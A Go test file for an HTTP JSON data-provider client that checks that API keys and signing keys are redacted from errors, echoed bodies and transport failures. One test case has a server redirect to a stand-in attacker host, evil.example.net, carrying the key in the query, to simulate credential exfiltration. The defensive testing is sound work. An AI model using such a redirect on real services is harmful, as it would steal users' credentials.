package httpjson

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/strata-go/strata/providers"
	"github.com/strata-go/strata/providers/internal/leakcheck"
)

// distinctiveKey escapes differently in a query ("+", "%2F", "%26") and in
// a path, so each escaped form is checked too.
const distinctiveKey = "sk_live_Z9q/X+7&w=K2 ~end"

// assertNoSecret fails if the credential, in any form (see
// leakcheck.Forms) or as a recognisable fragment, shows in anything err
// exposes: its text through every common verb, and each error in its
// chain, a *url.Error's URL field included.
func assertNoSecret(t *testing.T, name string, err error) {
	t.Helper()
	require.Error(t, err, name)
	leakcheck.Absent(t, []string{distinctiveKey, "sk_live_Z9q"}, leakcheck.Texts(err), name)
}

func secretRequest() providers.Request {
	return providers.Request{
		Params:     map[string]string{"symbol": "IBM", "interval": "5min"},
		Credential: providers.NewSecret(distinctiveKey),
	}
}

func TestSecretsNeverInErrors(t *testing.T) {
	echo := func(status int, format string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(status)
			fmt.Fprintf(w, format, r.URL.Query().Get("apikey"))
		}
	}
	tests := []struct {
		name  string
		h     http.HandlerFunc
		rules []ErrorRule
		class providers.Class
	}{
		{"status error echoing the key in its body", echo(401, `{"error":"key %s is not valid"}`), nil, providers.Auth},
		{"rule message echoing the key (Alpha Vantage style)",
			echo(200, `{"Information":"We have detected your API key as %s and our standard API rate limit is 25 requests per day."}`),
			[]ErrorRule{{Path: "Information", Contains: "rate limit", Class: providers.RateLimit}}, providers.RateLimit},
		{"value echoing the key", echo(200, `{"data":{"points":[{"at":"2024-03-01","value":"%s"}]}}`), nil, providers.DataQuality},
		{"timestamp echoing the key", echo(200, `{"data":{"points":[{"at":"%s","value":1}]}}`), nil, providers.DataQuality},
		{"broken JSON around the key", echo(200, `{"data": %s`), nil, providers.DataQuality},
		{"key at the start of a long body", echo(500, `%s`+strings.Repeat("x", 1000)), nil, providers.Transient},
		{"key straddling the snippet cut", echo(500, strings.Repeat("y", snippetLen-5)+`%s`), nil, providers.Transient},
		{"redirect to another host carrying the key", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.example.net/?k="+url.QueryEscape(r.URL.Query().Get("apikey"))+"&raw="+r.URL.Query().Get("apikey"), http.StatusFound)
		}, nil, providers.Unavailable},
	}
	for _, tt := range tests {
		cfg := quoteConfig(memClient(tt.h))
		cfg.ErrorRules = tt.rules
		_, err := mustNew(t, cfg).Fetch(context.Background(), secretRequest())
		if pe := asProviderError(t, err); pe.Class != tt.class {
			t.Errorf("%s: class %v, want %v (%v)", tt.name, pe.Class, tt.class, err)
		}
		// Where the key sits in quoted text, the marker shows in its place.
		if marked := strings.Contains(tt.name, "echoing the key") || strings.Contains(tt.name, "carrying"); marked &&
			!strings.Contains(err.Error(), providers.Redacted) {
			t.Errorf("%s: want the redaction marker in %q", tt.name, err)
		}
		assertNoSecret(t, tt.name, err)
	}
}

// leakyTransport fails with an error quoting the full URL, as a proxy or a
// wrapping transport might.
type leakyTransport struct{}

func (leakyTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	return nil, fmt.Errorf("proxy refused %s (auth %s)", r.URL.String(), r.Header.Get("Authorization"))
}

func TestSecretsNeverInTransportErrors(t *testing.T) {
	// A refused connection: the client's *url.Error quotes the whole URL.
	srv := httptest.NewServer(http.NotFoundHandler())
	base := srv.URL
	srv.Close()
	cfg := quoteConfig(http.DefaultClient)
	cfg.URL = base + "/v1/{symbol}/quote?interval={interval}"
	_, err := mustNew(t, cfg).Fetch(context.Background(), secretRequest())
	if pe := asProviderError(t, err); pe.Class != providers.Unavailable {
		t.Errorf("connection refused: class %v (%v)", pe.Class, err)
	}
	var ue *url.Error
	if !errors.As(err, &ue) || !strings.Contains(ue.URL, "apikey="+providers.Redacted) {
		t.Errorf("want a *url.Error with the key redacted in its URL, got %v", err)
	}
	assertNoSecret(t, "connection refused", err)

	// A transport whose own error text holds the key, in the query and in
	// a bearer header.
	for _, cred := range []Credential{{In: CredentialQuery, Name: "apikey"}, {In: CredentialBearer}} {
		cfg := quoteConfig(&http.Client{Transport: leakyTransport{}})
		cfg.Credential = cred
		_, err := mustNew(t, cfg).Fetch(context.Background(), secretRequest())
		assertNoSecret(t, fmt.Sprintf("leaky transport, %+v", cred), err)
		if !strings.Contains(err.Error(), "proxy refused") {
			t.Errorf("the redacted error lost its text: %v", err)
		}
	}
}

func TestSecretsSigningKeyNeverInErrors(t *testing.T) {
	h := func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(400)
		_, _ = io.WriteString(w, "bad signature for key "+distinctiveKey)
	}
	_, err := mustNew(t, Config{
		Client:  memClient(http.HandlerFunc(h)),
		URL:     "https://api.example.com/v1",
		Value:   "v",
		Signing: &Signing{Key: providers.NewSecret(distinctiveKey)},
	}).Fetch(context.Background(), providers.Request{})
	if pe := asProviderError(t, err); pe.Class != providers.Permanent {
		t.Errorf("class %v", pe.Class)
	}
	assertNoSecret(t, "signing key echoed", err)
}

func TestRedactor(t *testing.T) {
	r := newRedactor(providers.NewSecret("a/b c"), providers.Secret{})
	got := r.string("x a/b c y a%2Fb+c z a%2Fb%20c")
	if want := "x [REDACTED] y [REDACTED] z [REDACTED]"; got != want {
		t.Errorf("redact = %q, want %q", got, want)
	}
	if newRedactor().contains("anything") || newRedactor(providers.Secret{}).string("x") != "x" {
		t.Error("an empty redactor must change nothing")
	}
	if err := r.scrub(nil); err != nil {
		t.Error("scrub(nil)")
	}
	plain := errors.New("no secret here")
	if r.scrub(plain) != plain {
		t.Error("scrub must keep a clean error as is")
	}
	wrapped := fmt.Errorf("a/b c: %w", context.DeadlineExceeded)
	if s := r.scrub(wrapped); !errors.Is(s, context.DeadlineExceeded) || strings.Contains(s.Error(), "a/b c") {
		t.Errorf("scrub = %v", s)
	}
}
